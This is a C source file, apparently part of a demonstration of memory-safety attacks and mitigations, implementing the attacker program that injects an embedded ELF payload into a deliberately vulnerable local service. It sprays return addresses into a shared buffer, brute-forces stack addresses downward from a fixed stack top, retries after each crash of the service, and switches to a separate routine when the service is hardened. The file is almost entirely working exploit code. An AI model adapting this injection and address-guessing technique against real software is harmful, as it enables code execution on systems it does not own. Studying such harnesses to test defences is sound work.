/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The attacker on Linux: a client of the service that has nothing but a connection
 * to it and its own post.  The exploit is in the post; a request says that it is a
 * note of that many bytes.  When the service ends, the attacker tries again: at
 * another address until the code has run once, at the same one from then on.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attacker.h"
#include "ledger.h"
#include "vulnerable.h"

/* The exploit as the linker made it: an ELF file with one segment. */
__asm__(".section .rodata\n"
        ".balign 8\n"
        "payload:\n"
        "    .incbin \"payload.elf\"\n"
        ".text\n");

extern const unsigned char payload[];

/* Where an ELF file says where its program headers are; and what they say. */
enum { ELF_PHOFF = 0x20, ELF_P_OFFSET = 0x08, ELF_P_FILESZ = 0x20 };

/* Without randomised addresses, stacks begin here (48-bit addresses). */
#define STACK_TOP 0x1000000000000ul
enum { SLED_BYTES = 0x1000, RETURN_COPIES = 64, GUESSES = 64, GUESSES_IN_VAIN = 16,
       PAUSE_MICROSECONDS = 1000 };

static int descriptor = -1;
unsigned char *attacker_post;

static uint64_t payload_word(size_t offset)
{
    uint64_t word;

    memcpy(&word, payload + offset, sizeof(word));
    return word;
}

static void make_post(void)
{
    descriptor = memfd_create("post", MFD_CLOEXEC);
    if (descriptor < 0 || ftruncate(descriptor, POST_BYTES) != 0 ||
        (attacker_post = mmap(NULL, POST_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor,
                              0)) == MAP_FAILED) {
        perror("attacker: post");
        exit(1);
    }
}

int attacker_connect(void)
{
    return attacker_connect_to(LEDGER_SOCKET);
}

int attacker_connect_to(const char *path)
{
    for (;;) {
        struct message m = { .claim = LEDGER_ATTACKER, .label = LABEL_POST };
        int connection = channel_connect(path);

        if (connection >= 0 && channel_call(connection, &m, descriptor)) {
            return connection;
        }
        (void)close(connection);
        (void)usleep(PAUSE_MICROSECONDS);
    }
}

size_t attacker_fill_post(size_t at)
{
    uint64_t header = payload_word(ELF_PHOFF);
    size_t bytes = payload_word(header + ELF_P_FILESZ);

    memcpy(attacker_post + at, payload + payload_word(header + ELF_P_OFFSET), bytes);
    return bytes;
}

bool attacker_note(int connection, size_t bytes)
{
    struct message m = { .claim = LEDGER_ATTACKER, .label = LEDGER_NOTE, .count = 1,
                         .words = { bytes } };

    return channel_call(connection, &m, -1);
}

/* After a request that had no answer: waits until the service has ended, or the injected code has
   begun.  True if the latter. */
bool attacker_settle(uint64_t deaths, uint64_t lives)
{
    volatile const struct exhibit *e = attacker_exhibit();

    while (e->deaths == deaths && e->lives == lives) {
        (void)usleep(PAUSE_MICROSECONDS);
    }
    return e->lives != lives;
}

/* The injected code never answers: the end of the connection is the end of it. */
static bool inject(uint64_t address)
{
    size_t bytes = attacker_fill_post(0);
    int connection = attacker_connect(); /* this life of the service begins here */
    uint64_t lives = attacker_exhibit()->lives, deaths = attacker_exhibit()->deaths;

    for (size_t i = 0; i < RETURN_COPIES; i++) {
        memcpy(attacker_post + i * sizeof(address), &address, sizeof(address));
    }
    attacker_wait_for_client();
    (void)attacker_note(connection, bytes);
    (void)close(connection);
    return attacker_settle(deaths, lives);
}

void attacker_wait_for_client(void)
{
    while (attacker_exhibit()->patient != 0 && attacker_exhibit()->client_post == 0) {
        (void)usleep(PAUSE_MICROSECONDS);
    }
}

void attacker_finish(enum variant variant)
{
    volatile struct exhibit *e = attacker_exhibit();

    e->variants[variant].status = e->status;
    e->variants[variant].finished = 1;
}

/* Guesses downwards from the top of the stack; the sled is as long as a step. */
static void guess_stack(uint64_t most)
{
    volatile struct exhibit *e = attacker_exhibit();

    for (uint64_t i = 1; i <= most && e->lives == 0; i++) {
        uint64_t address = STACK_TOP - i * SLED_BYTES;

        e->variants[STACK_GUESS].tries = i;
        while (e->over == 0 && inject(address)) {
        }
    }
    attacker_finish(STACK_GUESS);
}

int main(void)
{
    if (mmap((void *)EXHIBIT, EXHIBIT_BYTES, PROT_READ | PROT_WRITE,
             MAP_SHARED | MAP_FIXED_NOREPLACE, FD_EXHIBIT, 0) == MAP_FAILED) {
        perror("attacker: map the exhibit");
        return 1;
    }
    service_draw_cookie();
    make_post();
    if (attacker_exhibit()->hardened == 0) {
        guess_stack(GUESSES);
    } else {
        guess_stack(GUESSES_IN_VAIN);
        attack_hardened();
    }
    attacker_exhibit()->gave_up = attacker_exhibit()->over == 0;
    for (;;) {
        (void)pause();
    }
}
